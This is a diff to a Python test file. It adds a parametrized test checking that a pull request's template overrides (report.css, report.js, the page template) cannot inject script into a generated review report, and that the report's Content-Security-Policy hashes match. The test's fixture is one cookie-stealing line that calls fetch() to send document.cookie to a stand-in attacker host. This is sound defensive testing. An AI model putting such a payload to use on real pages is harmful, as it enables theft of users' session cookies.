@@ -123,13 +123,18 @@ def test_base_shows_what_a_change_does(built: Store, repo: Path) -> None:
     assert "login-checks-the-password" in section.text  # its code changed since base
 
 
-def test_templates_are_overridable_and_the_policy_follows(built: Store) -> None:
+@pytest.mark.parametrize("name", ["report.css", "report.js", "report.html.j2"])
+def test_a_pull_request_cannot_override_the_report(built: Store, name: str) -> None:
+    """The report reviews pull requests: a `.memory/templates/report.js` (or .css, or the
+    page itself) from one must not run script in the reviewer's browser."""
     folder = built.root / ".memory" / "templates"
     folder.mkdir()
-    (folder / "report.css").write_text("body{background:#fafafa}\n", encoding="utf-8")
-    page = parse(build_page(built, today=DAY))
-    style = page.find("style").text
-    assert style == "body{background:#fafafa}\n"
-    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
+    (folder / name).write_text("fetch('https://evil.example/?'+document.cookie)\n")
+    text = build_page(built, today=DAY)
+    assert "evil.example" not in text
+    page = parse(text)
+    script, style = page.find("script").text, page.find("style").text
     csp = page.find("meta", http_equiv="Content-Security-Policy").attrs["content"]
-    assert f"style-src 'sha256-{digest}'" in csp
+    for kind, inline in (("script", script), ("style", style)):
+        digest = base64.b64encode(hashlib.sha256(inline.encode()).digest()).decode()
+        assert f"{kind}-src 'sha256-{digest}'" in csp
